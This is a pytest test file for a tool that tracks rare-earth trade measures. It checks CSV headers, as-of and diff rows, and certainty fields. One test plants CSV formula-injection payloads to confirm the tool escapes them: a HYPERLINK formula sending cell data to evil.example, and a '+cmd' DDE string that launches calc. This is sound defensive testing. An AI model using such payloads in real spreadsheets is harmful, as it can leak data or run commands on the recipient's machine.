"""CSV with the fixed headers of docs/output.md §7, and as-of tables that say how certain a measure
is and whom it covers (issue 15), on the bundled history."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.commands import answered, invoked
from tests.samples import GROUP_G, action, imposed, jsonl

AS_OF_HEADER = (
    "as_of,item,from,to,level,measure,status,kind,measure_level,issuer,direction,"
    "certainty,announced_on,effective_on,until,suspended_until,end_users,parties,"
    "via,document,source_url"
)
DIFF_HEADER = (
    "from_date,to_date,item,from,to,level_before,level_after,measure,before,after,document"
)


@pytest.fixture(scope="module")
def bundled(bundled_module_store: str) -> str:
    return bundled_module_store


def _rows(output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output)))


@pytest.mark.parametrize(
    "filters",
    [
        ("-e", "Dy", "--from", "CN", "--to", "JP"),
        ("-e", "REE", "--to", "US"),
        ("--item", "nothing-here"),
        (),
    ],
)
def test_the_as_of_csv_header_does_not_depend_on_the_question(
    bundled: str, filters: tuple[str, ...]
) -> None:
    output = invoked("--store", bundled, "as-of", "2025-11-20", *filters, "--format", "csv").stdout
    assert output.splitlines()[0] == AS_OF_HEADER
    assert all(len(row) == 21 for row in _rows(output))


def test_an_as_of_csv_row_says_issuer_certainty_via_and_source(bundled: str) -> None:
    output = invoked(
        "--store",
        bundled,
        "as-of",
        "2010-10-01",
        "-e",
        "Dy",
        "--from",
        "CN",
        "--to",
        "JP",
        "--format",
        "csv",
    ).stdout
    [header, row, *others] = _rows(output)  # the halt first, then the quota and the duty
    assert [other[header.index("measure")] for other in others] == [
        "cn-ree-export-quota-2010",
        "cn-ree-w-mo-export-duty",
    ]
    fields = dict(zip(header, row, strict=True))
    assert fields["measure"] == "cn-2010-rare-earth-halt-japan"
    assert (fields["issuer"], fields["certainty"], fields["via"]) == ("CN", "de_facto", "listed")
    assert fields["source_url"].startswith("https://")


def test_the_diff_csv_has_one_row_per_flow_and_measure_whose_status_differs(bundled: str) -> None:
    output = invoked(
        "--store",
        bundled,
        "diff",
        "2025-10-01",
        "2025-12-01",
        "-e",
        "Ho",
        "-e",
        "Dy",
        "--from",
        "CN",
        "--to",
        "US",
        "--format",
        "csv",
    ).stdout
    rows = _rows(output)
    assert ",".join(rows[0]) == DIFF_HEADER
    hanwha = ("cn-countermeasure-2025-10-hanwha", "MOFCOM Order No. 6 of 2025")
    uel = ("cn-uel-2025-10-entities", "")
    named = ("none", "in_force for named parties")
    # an entity list that came between the dates is a row too, with its own document (the
    # CSV of such a diff once failed on it)
    assert rows[1:] == [
        [
            "2025-10-01",
            "2025-12-01",
            "Dy",
            "CN",
            "US",
            "end_user_ban",
            "end_user_ban",
            hanwha[0],
            *named,
            hanwha[1],
        ],
        [
            "2025-10-01",
            "2025-12-01",
            "Dy",
            "CN",
            "US",
            "end_user_ban",
            "end_user_ban",
            uel[0],
            *named,
            uel[1],
        ],
        [
            "2025-10-01",
            "2025-12-01",
            "Ho",
            "CN",
            "US",
            "none",
            "none",
            hanwha[0],
            *named,
            hanwha[1],
        ],
        [
            "2025-10-01",
            "2025-12-01",
            "Ho",
            "CN",
            "US",
            "none",
            "none",
            "cn-mofcom-2025-57",
            "none",
            "suspended",
            "MOFCOM/GAC Announcement No. 57 of 2025",
        ],
        ["2025-10-01", "2025-12-01", "Ho", "CN", "US", "none", "none", uel[0], *named, uel[1]],
    ]


def test_an_as_of_table_says_certainty_and_whom_a_measure_covers(bundled: str) -> None:
    halt = invoked(
        "--store", bundled, "as-of", "2010-10-01", "-e", "Dy", "--from", "CN", "--to", "JP"
    ).stdout
    assert "cn-2010-rare-earth-halt-japan (de_facto_embargo, de facto, listed)" in halt
    licence = invoked(
        "--store", bundled, "as-of", "2025-06-01", "-e", "Dy", "--from", "CN", "--to", "JP"
    ).stdout
    assert "cn-mofcom-2025-18 (licence_requirement, all destinations)" in licence


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_text(tmp_path: Path) -> None:
    """A document or title beginning with = + - or @ is written with ' before it (docs/
    output.md §7), so that opening the CSV in a spreadsheet runs nothing; a group is not."""
    store = str(tmp_path / "store.db")
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    records = jsonl(
        {**GROUP_G, "group": "white", "members": ["JP"]},
        imposed("formula", document=hostile, destinations=["@white"]),
        action("plus", title="+cmd|' /C calc'!A0", responds_to=["formula"]),
    )
    invoked("--store", store, "append", "-", stdin=records)
    as_of = _rows(
        invoked(
            "--store", store, "as-of", "2025-06-01", "-e", "Dy", "--to", "@white", "--format", "csv"
        ).stdout
    )
    fields = dict(zip(as_of[0], as_of[1], strict=True))
    assert fields["document"] == "'" + hostile
    assert fields["to"] == "@white"  # a group stays as it is
    found = _rows(invoked("--store", store, "search", "calc", "--format", "csv").stdout)
    titles = [row[found[0].index("title")] for row in found[1:]]
    assert titles == ["'+cmd|' /C calc'!A0"]
    timeline = invoked(
        "--store", store, "timeline", "-e", "Dy", "--actions", "--format", "csv"
    ).stdout
    assert all(not cell.startswith(("=", "+")) for row in _rows(timeline) for cell in row)
    # JSON keeps the values as they are
    flows = answered(store, "as-of", "2025-06-01", "-e", "Dy", "--to", "@white")["flows"]
    assert flows[0]["in_force"][0]["document"] == hostile
